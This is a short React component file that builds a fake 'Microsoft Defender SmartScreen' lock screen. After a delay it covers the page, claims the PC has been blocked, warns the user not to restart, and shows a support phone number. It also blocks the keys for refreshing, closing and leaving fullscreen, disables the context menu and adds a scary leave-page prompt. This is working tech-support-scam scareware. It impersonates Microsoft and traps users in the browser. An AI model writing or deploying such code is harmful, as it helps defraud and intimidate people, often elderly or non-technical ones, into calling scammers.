import { jsx } from "react/jsx-runtime";
import { useEffect, useState } from "react";
export default function Block({ phone }) {
  const [open, setOpen] = useState(false);
  useEffect(() => {
    const t = setTimeout(() => setOpen(true), 30000);
    const keys = (e) => {
      if (e.key === "F5" || e.key === "F11" || e.key === "Escape" || (e.ctrlKey && (e.key === "r" || e.key === "w")) || (e.altKey && e.key === "F4")) { e.preventDefault(); e.stopPropagation(); }
    };
    const leave = (e) => { e.preventDefault(); e.returnValue = "Your data is at risk"; return e.returnValue; };
    document.addEventListener("keydown", keys, true);
    document.addEventListener("contextmenu", (e) => e.preventDefault());
    window.addEventListener("beforeunload", leave);
    return () => clearTimeout(t);
  }, []);
  if (!open) return null;
  return jsx("div", { className: "cover", children: [
    jsx("h1", { children: "Microsoft Defender SmartScreen" }),
    jsx("p", { children: "Access to this PC has been blocked for security reasons. Do not shut down or restart your computer." }),
    jsx("p", { children: ["Contact support: ", phone] })
  ] });
}
